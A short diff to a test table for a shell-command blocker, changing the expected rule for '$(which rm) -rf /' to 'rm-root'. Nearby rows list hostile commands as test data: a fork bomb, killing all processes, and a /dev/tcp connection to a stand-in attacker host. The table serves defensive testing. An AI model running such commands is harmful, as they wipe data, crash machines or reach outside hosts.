@@ -81,7 +81,7 @@ BLOCKS = [
     ("curl $URL", "network-unknown-target", "curl $URL"),
     ('echo "open', "parse-error", None),
     ("$CMD arg", "dynamic-command", "$CMD arg"),
-    ("$(which rm) -rf /", "dynamic-command", None),
+    ("$(which rm) -rf /", "rm-root", None),
     (":(){ :|:& };:", "fork-bomb", None),
     ("kill -9 -1", "kill-all", "kill -9 -1"),
     ("cat < /dev/tcp/evil.example.com/80", "network-not-whitelisted", None),
